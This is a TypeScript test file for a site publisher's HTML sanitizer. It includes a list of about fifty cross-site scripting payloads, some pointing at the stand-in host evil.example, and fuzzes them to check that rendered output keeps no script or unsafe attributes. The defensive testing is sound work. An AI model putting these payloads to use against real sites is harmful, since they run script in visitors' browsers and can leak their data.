import fc from 'fast-check'
import type { Element, Nodes } from 'hast'
import rehypeRaw from 'rehype-raw'
import { unified } from 'unified'
import { expect, test } from 'vitest'
import { textContent } from '../../../../src/publish/html/element.ts'
import { script } from '../../../../src/publish/html/script.ts'
import { parseMdx, prose, render } from './render.ts'

const attacks = [
  '<script>alert(1)</script>',
  'text <script src=//evil.example/x.js></script> text',
  '<SCRIPT\n>alert(1)</SCRIPT >',
  '<scr<script>ipt>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<p onclick="alert(1)" style="position:fixed;inset:0">x</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" &#9;java&#x0A;script:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:x">x</a>',
  '[x](javascript:alert(1))',
  '[x](<java&#115;cript:alert(1)>)',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '![x](javascript:alert(1))',
  '[x][y]\n\n[y]: javascript:alert(1)',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<style>body{display:none}</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href="//evil.example/">',
  '<form action="//evil.example"><input name=p><button>x</button></form>',
  '<object data=x></object><embed src=x>',
  '<svg><script>alert(1)</script></svg>',
  '<svg onload=alert(1)>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><foreignObject><script>alert(1)</script></foreignObject></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
  '<mi xlink:href="javascript:alert(1)">x</mi>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<template><script>alert(1)</script></template>',
  '<video src=x onerror=alert(1)></video><audio src=x></audio>',
  '<details open ontoggle=alert(1)>x</details>',
  '<a href="x" target="_blank" ping="//evil.example">x</a>',
  '<span data-formula="0">x</span>',
  '<p id="x" name="y" tabindex=1 accesskey=k>x</p>',
  '$\\href{javascript:alert(1)}{x}$',
  '$\\htmlData{x=1}{\\url{javascript:alert(1)}}$',
  '$</annotation></semantics></math><script>alert(1)</script>$',
  '`<script>alert(1)</script>`',
  ':term[x]{en="<script>alert(1)</script>"}',
  ':::note[<script>alert(1)</script>]\nx\n:::',
  ':unknown[<script>alert(1)</script>]',
  '<img src="data:text/html,<script>alert(1)</script>">',
]

const allowed = new Set(
  'a abbr annotation aside b bdi bdo blockquote br caption cite code col colgroup dd del details dfn div dl dt em figcaption figure h1 h2 h3 h4 h5 h6 hr i img input ins kbd li mark math mfrac mi mn mo mover mpadded mphantom mprescripts mroot mrow ms mspace msqrt mstyle msub msubsup msup mtable mtd mtext mtr munder munderover ol p picture pre q rp rt ruby s samp section semantics small source span strike strong sub summary sup table tbody td tfoot th thead time tr tt u ul var wbr'.split(
    ' ',
  ),
)

/** Read HTML the way a browser does, and list its elements. */
function elements(html: string): Element[] {
  const tree = unified()
    .use(rehypeRaw)
    .runSync({
      type: 'root',
      children: [{ type: 'raw', value: html }],
    } as never)
  const list = (node: Nodes): Element[] => [
    ...(node.type === 'element' ? [node] : []),
    ...('children' in node ? node.children.flatMap(list) : []),
  ]
  return list(tree as Nodes)
}

function expectSafe(html: string) {
  for (const { tagName, properties } of elements(html)) {
    expect(allowed).toContain(tagName)
    for (const [name, value] of Object.entries(properties)) {
      expect(name).not.toMatch(/^(?:on|xlink|srcdoc|target|ping|name|action)/i)
      if (name === 'href') {
        expect(String(value)).toMatch(
          /^(?:https?:|mailto:|tel:|[^:]*$|[^:]*[/?#])/,
        )
      }
      if (name === 'style') {
        // KaTeX's own: lengths and its error colour.
        expect(String(value)).not.toMatch(/url|position|expression/)
      }
    }
  }
}

test.each(attacks)('nothing runs: %s', (source) => {
  for (const text of [source, `前\n\n${source}\n\n後`, `前 ${source} 後`]) {
    expectSafe(prose(text))
  }
})

test.each(attacks)('what follows stays: %s', (source) => {
  if (/<!--|^:::/.test(source)) return
  expect(prose(`${source}\n\n後文在此`)).toContain('後文在此')
})

test('nothing runs, however attacks are put together', () => {
  const part = fc.oneof(
    fc.constantFrom(...attacks),
    fc.constantFrom('\n\n', ' ', '"', "'", '>', '<', '-->', '<!--', '*', '`'),
    fc.string({ maxLength: 8 }),
  )
  fc.assert(
    fc.property(fc.array(part, { maxLength: 8 }), (parts) => {
      expectSafe(prose(parts.join('')))
    }),
    { numRuns: 150 },
  )
})

test('front matter is text', () => {
  const attack = '</title></style><script>alert(1)</script>"onload="x'
  const html = render('文', {
    frontMatter: {
      title: attack,
      subtitle: attack,
      description: attack,
      author: [attack],
      role: attack,
      publisher: attack,
      date: attack,
      caption: attack,
      credit: attack,
      image: 'javascript:alert(1)',
      tags: [attack],
    },
    path: attack,
    site: { title: attack },
  })
  const found = elements(html)
  expect(found.length).toBeGreaterThan(20)
  const scripts = found.filter(({ tagName }) => tagName === 'script')
  expect(scripts.map(({ properties }) => properties)).toEqual([
    { type: 'application/ld+json' },
    {},
  ])
  const [data, own] = scripts.map((one) => textContent(one))
  expect(JSON.parse(data ?? '')).toMatchObject({ headline: attack })
  expect(own).toBe(script)
  for (const { tagName, properties } of found) {
    expect(tagName).not.toMatch(/^img$/)
    expect(Object.keys(properties).join()).not.toMatch(/onload/i)
  }
  expect(html.match(/alert\(1\)/g)?.length).toBeGreaterThan(8)
})

test('MDX code is left out, and what JSX wraps is kept', () => {
  const source = `import X from 'x'

export const secret = 1

<Tabs onClick={() => alert(1)}><script>{\`alert(1)\`}</script>甲 **乙** {secret}</Tabs>

<a href="javascript:alert(1)" onClick="x" className="c" title="丁">丙</a>

{secret}
`
  const html = prose(source, { tree: parseMdx(source) })
  expectSafe(html)
  expect(html).toContain('<strong>乙</strong>')
  expect(html).toContain('<a class="c" title="丁">丙</a>')
  // In a sentence it shows that something stands there; it is not run.
  expect(html.replace('<code>{secret}</code>', '')).not.toMatch(
    /secret|import|alert/,
  )
})

test('the page forbids scripts and everything else but pictures', () => {
  const policy = elements(render('文')).find(
    ({ properties }) => properties['httpEquiv'] !== undefined,
  )
  expect(policy?.properties['content']).toMatch(
    /^default-src 'none'; img-src 'self' https: data:; style-src 'unsafe-inline';/,
  )
})
